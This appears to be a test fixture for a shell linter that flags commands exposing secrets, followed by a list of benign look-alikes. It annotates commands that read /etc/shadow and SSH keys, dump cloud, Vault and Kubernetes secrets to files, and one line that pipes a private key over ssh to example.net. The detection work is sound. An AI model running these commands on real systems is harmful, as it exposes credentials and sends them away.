env | tee env.log
#     ^^^^^^^^^^^ medium: writes a secret into "env.log"
cat ~/.netrc
#^^^^^^^^^^^ medium: prints the secrets in "~/.netrc"
cat /etc/shadow
#^^^^^^^^^^^^^^ medium: prints the secrets in "/etc/shadow"
env > env.txt
#^^ medium: writes every variable into a file, secrets among them
tofu output -json > out.json
#^^^^^^^^^^^^^^^^ medium: writes a secret into a file
kubectl get secret db -o yaml
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^ medium: prints the secrets of "db"
kubectl get secret db -oyaml > secret.yaml
#^^^^^^^^^^^^^^^^^^^^^^^^^^^ medium: writes a secret into a file
vault kv get -format=json secret/shop > s.json
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ medium: writes a secret into a file
vault read database/creds/app > creds
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^ medium: writes a secret into a file
docker inspect -f '{{json .Config.Env}}' web
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ medium: prints the variables of a container, passwords among them
aws secretsmanager get-secret-value --secret-id shop/db --query SecretString --output text > db.txt
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ medium: writes a secret into a file
aws ssm get-parameters-by-path --path /shop --with-decryption --recursive > params.json
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ medium: writes a secret into a file
gcloud secrets versions access latest --secret=db > db.txt
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ medium: writes a secret into a file
az keyvault secret show --vault-name shop --name db > db.json
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ medium: writes a secret into a file
sops -d secrets.enc.yaml > secrets.yaml
#^^^^^^^^^^^^^^^^^^^^^^^ medium: writes a secret into a file
ansible-vault decrypt group_vars/prod/vault.yml
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: leaves "group_vars/prod/vault.yml" in the clear on disk
strings /proc/42/environ
#^^^^^^^^^^^^^^^^^^^^^^^ medium: prints the secrets in "/proc/42/environ"
aws sts get-session-token > creds.json
#^^^^^^^^^^^^^^^^^^^^^^^^ medium: writes a secret into a file
aws iam create-access-key --user-name ana > key.json
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ medium: writes a secret into a file
aws ecr get-login-password > pw
#^^^^^^^^^^^^^^^^^^^^^^^^^ medium: writes a secret into a file
cat ~/.ssh/id_rsa | ssh ana@example.net 'cat >> k'
#^^^^^^^^^^^^^^^^ medium: prints the secrets in "~/.ssh/id_rsa"
#                   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ critical: sends a secret of this machine away [secret-sent]
#                                        ^^^ medium: writes a secret into "k"
gcloud iam service-accounts keys create key.json --iam-account=x
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ medium: writes a key of "x" into a file
op read shop > x.json
#^^^^^^^^^^^ medium: writes a secret into a file
op item get shop > x.json
#^^^^^^^^^^^^^^^ medium: writes a secret into a file
doppler secrets download shop > x.json
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^ medium: writes a secret into a file
aws configure export-credentials shop > x.json
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ medium: writes a secret into a file
gcloud iam service-accounts keys create shop > x.json
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ medium: writes a secret into a file
heroku config shop > x.json
#^^^^^^^^^^^^^^^^^ medium: writes a secret into a file
infisical export shop > x.json
#^^^^^^^^^^^^^^^^^^^^ medium: writes a secret into a file
ansible-vault view shop > x.json
#^^^^^^^^^^^^^^^^^^^^^^ medium: writes a secret into a file
gh auth token shop > x.json
#^^^^^^^^^^^^^^^^^ medium: writes a secret into a file
pass show shop > x.json
#^^^^^^^^^^^^^ medium: writes a secret into a file
xxd '/etc/shadow'
#^^^^^^^^^^^^^^^^ medium: prints the secrets in "/etc/shadow"
head '/etc/shadow'
#^^^^^^^^^^^^^^^^^ medium: prints the secrets in "/etc/shadow"
tail '/etc/shadow'
#^^^^^^^^^^^^^^^^^ medium: prints the secrets in "/etc/shadow"
less '/etc/shadow'
#^^^^^^^^^^^^^^^^^ medium: prints the secrets in "/etc/shadow"
more '/etc/shadow'
#^^^^^^^^^^^^^^^^^ medium: prints the secrets in "/etc/shadow"
sops -d '-i' shop
#^^^^^^^^^^^^^^^^ medium: leaves a file of secrets in the clear on disk
printenv > x.txt
#^^^^^^^ medium: writes every variable into a file, secrets among them
head 'x/.ssh/id_rsa'
#^^^^^^^^^^^^^^^^^^^ medium: prints the secrets in "x/.ssh/id_rsa"
tail 'x/.ssh/id_rsa'
#^^^^^^^^^^^^^^^^^^^ medium: prints the secrets in "x/.ssh/id_rsa"
less 'x/.ssh/id_rsa'
#^^^^^^^^^^^^^^^^^^^ medium: prints the secrets in "x/.ssh/id_rsa"
more 'x/.ssh/id_rsa'
#^^^^^^^^^^^^^^^^^^^ medium: prints the secrets in "x/.ssh/id_rsa"
strings 'x/.ssh/id_rsa'
#^^^^^^^^^^^^^^^^^^^^^^ medium: prints the secrets in "x/.ssh/id_rsa"
xxd 'x/.ssh/id_rsa'
#^^^^^^^^^^^^^^^^^^ medium: prints the secrets in "x/.ssh/id_rsa"
base64 'x/.ssh/id_rsa'
#^^^^^^^^^^^^^^^^^^^^^ medium: prints the secrets in "x/.ssh/id_rsa"
export ACTIONS_RUNNER_DEBUG=true
#      ^^^^^^^^^^^^^^^^^^^^^^^^^ medium: lets the log of every step show what it handles

# look-alikes
echo "$DB_NAME" > name.txt
echo "$DB_PASSWORD" | docker login --username ana --password-stdin
kubectl get secret db
kubectl get secret db -o name
vault kv get -field=password secret/shop
docker inspect web
cat README.md > notes.txt
kubectl exec deploy/api -- env
echo "//registry.example.org/:_authToken=$NPM_TOKEN" > ~/.npmrc
